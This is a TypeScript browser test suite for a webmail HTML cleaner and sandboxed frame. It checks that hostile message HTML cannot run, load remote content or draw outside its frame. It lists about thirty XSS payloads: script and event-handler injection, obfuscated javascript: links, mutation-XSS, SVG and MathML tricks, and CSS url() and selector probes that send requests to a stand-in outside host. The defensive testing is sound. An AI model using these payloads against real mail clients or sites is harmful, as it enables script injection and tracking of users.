// Hostile message HTML in real Chromium, against each wall alone and both together: the cleaner's output in a page
// without any policy, the raw message in the frame, and the cleaned message in the frame. Nothing may run, load,
// navigate or draw outside. (Numbers after the project's list of 54.)
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import type { Browser, Page } from 'playwright';
import { cleanHtml } from '#lib/webmail/html/clean-html.ts';
import { frameDocument } from '#lib/webmail/html/frame-document.ts';
import { launchBrowser } from '#tests/support/browser.ts';

const cry = "fetch('OUT/ran');parent.postMessage('ran','*');alert(1)";
const svg = (inner: string) =>
  `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg">${inner}</svg>`)}`;

/** OUT is the address of a server that no vector may reach. */
const vectors: [why: string, html: string][] = [
  [
    '1 script',
    `<html><head><script>${cry}</script></head><body><script>${cry}</script></body></html><script>${cry}</script>`,
  ],
  [
    '1 script from elsewhere',
    '<script src="OUT/a.js"></script><script type=module src="OUT/b.js"></script>',
  ],
  [
    '2 handlers',
    `<img src=x onerror="${cry}"><body onload="${cry}"><details open ontoggle="${cry}"><marquee onstart="${cry}">x</marquee><video src=x onerror="${cry}"></video><style>@keyframes k{}</style><p style="animation:k 1s" onanimationend="${cry}">`,
  ],
  [
    '3 script links',
    `<a id=go href="java\tscript:${cry}">a</a><a href="&#106;avascript:${cry}">b</a><a href="JaVaScRiPt:${cry}">c</a>`,
  ],
  [
    '4 areas, forms, base',
    `<base href="OUT/"><map name=m><area href="javascript:${cry}"></map><form action="OUT/form"><button formaction="OUT/b">x</button><input autofocus onfocus="${cry}"></form><a href="rel">r</a>`,
  ],
  [
    '5 data links and frames',
    `<iframe src="data:text/html,<script>${cry}</script>"></iframe><a href="data:text/html,<script>1</script>">a</a>`,
  ],
  [
    '7 meta refresh',
    '<meta http-equiv="refresh" content="0;url=OUT/refresh"><meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  ],
  [
    '8 plugins and srcdoc',
    `<object data="OUT/o"></object><embed src="OUT/e"><applet code="OUT/ap"></applet><iframe srcdoc="<script>${cry}</script><img src=OUT/i>"></iframe><frameset><frame src="OUT/f"></frameset>`,
  ],
  [
    '9 CDATA, comments',
    `<![CDATA[><script>${cry}</script>]]><!--[if gte mso 9]><script>${cry}</script><![endif]--><!--><img src=x onerror="${cry}">--><!--!><img src=OUT/c>-->`,
  ],
  [
    '11 raw text elements',
    `<noscript><p title="</noscript><img src=OUT/n onerror=${cry}>"></noscript><noembed><img src=OUT/ne></noembed><xmp><img src=OUT/x></xmp><textarea></textarea><img src=OUT/t onerror=alert(1)><title><img src=OUT/ti></title>`,
  ],
  [
    '12 templates',
    `<template><img src=OUT/t></template><div><template shadowrootmode=open><img src=OUT/s><style>@import "OUT/sc"</style></template></div>`,
  ],
  [
    '14 clobbering',
    '<form name=body id=attributes><input name=cookie><img name=cookie></form><a id=location href="OUT/x">a</a>',
  ],
  ['15 depth', `${'<div>'.repeat(3000)}<img src=OUT/deep>`],
  [
    '16 mutation',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=OUT/mu onerror=alert(1)&gt;">`,
  ],
  [
    '16 mutation of foreign content',
    `<svg></p><style><a id="</style><img src=OUT/mu2 onerror=alert(1)>"><form><math><mtext></form><form><mglyph><style></math><img src=OUT/mu3 onerror=alert(1)>`,
  ],
  ['17 open tag at the end', `text <img src="OUT/half`],
  [
    '18 svg handlers',
    `<svg onload="${cry}"><script>${cry}</script><image href="OUT/si" xlink:href="OUT/sx"/></svg>`,
  ],
  [
    '19 svg animation',
    `<svg><a id=x><animate attributeName=" href" to="javascript:alert(1)"/><set attributeName=xlink:href to="OUT/set"/></a><image><animate attributeName=href values="OUT/an;OUT/an2" dur=1s /></image></svg>`,
  ],
  [
    '21 svg use',
    `<svg><use href="${svg(`<image href='OUT/us'/><script>alert(1)</script>`)}#x"/></svg><img src="${svg(`<script>alert(1)</script><image href='OUT/inner'/>`)}">`,
  ],
  [
    '22 foreignObject, filters',
    `<svg><foreignObject><iframe src="OUT/fo"></iframe></foreignObject><filter id=f><feImage href="OUT/fe"/></filter><rect filter="url(#f)" width=10 height=10 /><rect fill="url(OUT/p#a)" mask="url(OUT/m#a)" cursor="url(OUT/cu),auto"/></svg>`,
  ],
  [
    '25 MathML',
    `<math href="javascript:alert(1)"><maction actiontype="statusline#OUT/ma" xlink:href="OUT/ml">x</maction></math>`,
  ],
  [
    '27 images',
    '<img src="OUT/1" srcset="OUT/2 2x" sizes=1px lowsrc="OUT/3" dynsrc="OUT/4"><img src="\nOUT/5"><img src="//127.0.0.1:PORT/6"><input type=image src="OUT/7">',
  ],
  [
    '28 media',
    '<picture><source srcset="OUT/1"><img></picture><video src="OUT/2" poster="OUT/3" autoplay></video><audio src="OUT/4" autoplay></audio><video><track default src="OUT/5"></video>',
  ],
  [
    '29 backgrounds',
    '<body background="OUT/1"><table background="OUT/2"><tr background="OUT/3"><td background="OUT/4">x</table>',
  ],
  [
    '30 inline css',
    `<p style="background:url(OUT/1)">a<p style="background-image:u\\72l('OUT/2')">a<p style="background:image-set('OUT/3' 1x)">a<p style="--x:url(OUT/4);background:var(--x)">a<p style="background:var(--y,url(OUT/5))">a<p style="list-style-image:url(OUT/6);display:list-item">a<p style="border-image:url(OUT/7) 1;content:url(OUT/8);cursor:url(OUT/9),auto;mask:url(OUT/10);filter:url(OUT/11#a);background:URL(OUT/12">a`,
  ],
  [
    '31 style elements',
    `<style>@import "OUT/1";@import url(OUT/2);@font-face{font-family:x;src:url(OUT/3)}p{font-family:x;background:url(OUT/4)}p::before{content:url(OUT/5)}li{list-style:url(OUT/6)}</style><p>text<li>x`,
  ],
  [
    '32 links',
    '<link rel=stylesheet href="OUT/1"><link rel=icon href="OUT/2"><link rel=preload as=image href="OUT/3"><link rel=prefetch href="OUT/4"><link rel=manifest href="OUT/5"><link rel=modulepreload href="OUT/6">',
  ],
  [
    '36 css probes',
    '<style>a[href*="x"]{background:url(OUT/1)}a:visited{background:url(OUT/2)}:root:has(body){background:url(OUT/3)}</style><a href="http://x">x</a>',
  ],
  [
    '37 cover the page',
    '<style>:root,body{position:fixed!important;top:-500px;left:-500px;width:3000px;height:3000px;background:red;z-index:2147483647}</style><div style="position:fixed;inset:-999px;background:red;z-index:2147483647">x</div><div style="margin:-900px;width:3000px;height:3000px;background:red">y</div>',
  ],
];

const fill = (text: string, port: number) =>
  text.replaceAll('OUT', `http://127.0.0.1:${port}`).replaceAll('PORT', String(port));

describe('hostile HTML in the browser', () => {
  let browser: Browser;
  let page: Page;
  let server: Server;
  let outside: Server;
  let port = 0;
  let outPort = 0;
  let shown: { html: string; headers: Record<string, string> } = { html: '', headers: {} };
  const reached: string[] = [];
  const alarms: string[] = [];

  before(async () => {
    outside = createServer((request, response) => {
      reached.push(request.url ?? '');
      response.end();
    });
    // The page around the message, with the reader's frame.
    server = createServer((request, response) => {
      if (request.url === '/message') response.writeHead(200, shown.headers).end(shown.html);
      else if (request.url === '/') {
        response
          .writeHead(200, { 'content-type': 'text/html' })
          .end(
            `<!doctype html><title>outside</title><body style="margin:0;background:#0f0"><iframe style="position:absolute;left:100px;top:100px;width:300px;height:200px;border:0" sandbox="allow-popups allow-popups-to-escape-sandbox" src="/message"></iframe><script>onmessage=()=>{document.title='ran'}</script>`,
          );
      } else response.writeHead(404).end();
    });
    for (const each of [server, outside]) {
      await new Promise<void>((resolve) => each.listen(0, '127.0.0.1', resolve));
    }
    port = (server.address() as AddressInfo).port;
    outPort = (outside.address() as AddressInfo).port;
    browser = await launchBrowser();
    page = await browser.newPage({ viewport: { width: 500, height: 400 } });
    page.on('dialog', (dialog) => {
      alarms.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on('popup', (popup) => alarms.push(`popup ${popup.url()}`));
  });
  after(async () => {
    await browser?.close();
    for (const each of [server, outside]) {
      each?.closeAllConnections();
      each?.close();
    }
  });

  async function check(path: string, why: string): Promise<void> {
    const url = `http://127.0.0.1:${port}${path}`;
    reached.length = 0;
    alarms.length = 0;
    await page.goto(url, { waitUntil: 'load' });
    // Refreshes of zero seconds and animations have begun by then; a sandboxed page answers no questions.
    await page.waitForTimeout(80);
    assert.equal(page.url(), url, `${why}: the page went elsewhere`);
    assert.deepEqual(alarms, [], why);
    assert.deepEqual(reached, [], why);
    if (path === '/') assert.equal(await page.title(), 'outside', why);
  }

  /** Everything outside the frame is still the page's green. */
  async function checkOutside(why: string): Promise<void> {
    const image = (await page.screenshot({ type: 'png' })).toString('base64');
    const strange = await page.evaluate(async (data) => {
      const picture = new Image();
      picture.src = `data:image/png;base64,${data}`;
      await picture.decode();
      const canvas = document.createElement('canvas');
      canvas.width = picture.width;
      canvas.height = picture.height;
      const drawing = canvas.getContext('2d');
      if (!drawing) return -1;
      drawing.drawImage(picture, 0, 0);
      const { data: bytes } = drawing.getImageData(0, 0, canvas.width, canvas.height);
      let count = 0;
      for (let y = 0; y < canvas.height; y++) {
        for (let x = 0; x < canvas.width; x++) {
          if (x >= 100 && x < 400 && y >= 100 && y < 300) continue;
          const at = (y * canvas.width + x) * 4;
          if (bytes[at] !== 0 || bytes[at + 1] !== 255 || bytes[at + 2] !== 0) count++;
        }
      }
      return count;
    }, image);
    assert.equal(strange, 0, `${why}: pixels outside the frame`);
  }

  for (const [why, template] of vectors) {
    it(why, async () => {
      const html = fill(template, outPort);
      const clean = cleanHtml(html, { mayLoadRemote: false, inlineImages: new Map() });
      const cleaned = frameDocument(clean, { mayLoadRemote: false, isDark: false });
      const raw = frameDocument(
        { ...clean, css: '', html },
        { mayLoadRemote: false, isDark: false },
      );

      shown = { html: cleaned.html, headers: { 'content-type': 'text/html; charset=utf-8' } };
      await check('/message', `${why}, cleaner alone`);
      shown = raw;
      await check('/', `${why}, frame alone`);
      await checkOutside(`${why}, frame alone`);
      await check('/message', `${why}, raw as a page of its own`);
      shown = cleaned;
      await check('/', `${why}, both`);
      await checkOutside(`${why}, both`);
    });
  }

  it('loads images, and nothing else, after consent', async () => {
    const html = fill(
      '<img src="OUT/image.png"><p style="background:url(OUT/bg.png)">x</p><link rel=stylesheet href="OUT/css"><iframe src="OUT/frame"></iframe><style>@import "OUT/import";@font-face{font-family:f;src:url(OUT/font)}p{font-family:f}</style><script src="OUT/script"></script><video src="OUT/video"></video>',
      outPort,
    );
    const open = { mayLoadRemote: true, isDark: false };
    const clean = cleanHtml(html, { mayLoadRemote: true, inlineImages: new Map() });
    for (const content of [clean, { ...clean, css: '', html }]) {
      shown = frameDocument(content, open);
      reached.length = 0;
      await page.goto(`http://127.0.0.1:${port}/`, { waitUntil: 'load' });
      await page.waitForTimeout(100);
      assert.deepEqual([...reached].sort(), ['/bg.png', '/image.png']);
    }
  });
});
